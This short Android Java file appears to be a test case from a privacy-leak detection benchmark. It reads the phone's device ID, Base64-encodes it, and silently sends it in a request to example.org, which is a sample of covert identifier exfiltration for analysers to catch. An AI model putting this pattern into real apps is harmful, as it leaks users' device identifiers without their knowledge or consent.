package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Base64, then in the address of a request. */
public class Encoded extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        final String e = android.util.Base64.encodeToString(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().getBytes(), 0);
        try { new URL("http://example.org/?i=" + URLEncoder.encode(e, "UTF-8")).openConnection().getInputStream(); } catch (IOException x) { }
    }
}
